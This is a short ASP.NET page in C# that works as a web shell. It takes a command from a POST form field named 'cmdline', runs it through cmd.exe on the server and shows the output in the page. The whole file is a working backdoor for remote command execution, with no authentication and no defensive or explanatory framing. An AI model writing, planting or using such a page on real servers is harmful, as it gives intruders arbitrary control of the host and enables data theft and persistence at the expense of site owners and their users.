<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (string.IsNullOrEmpty(HttpContext.Current.Request.Form["cmdline"])) return;
    System.Diagnostics.Process process = new System.Diagnostics.Process();
    process.StartInfo.FileName = "cmd";
    process.StartInfo.UseShellExecute = false;
    process.StartInfo.RedirectStandardInput = true;
    process.StartInfo.RedirectStandardOutput = true;
    process.Start();
    process.StandardInput.WriteLine(HttpContext.Current.Request.Form["cmdline"]);
    process.StandardInput.WriteLine("exit");
    Result.InnerText = process.StandardOutput.ReadToEnd();
}
</script>
<html><body><pre id="Result" runat="server"></pre></body></html>
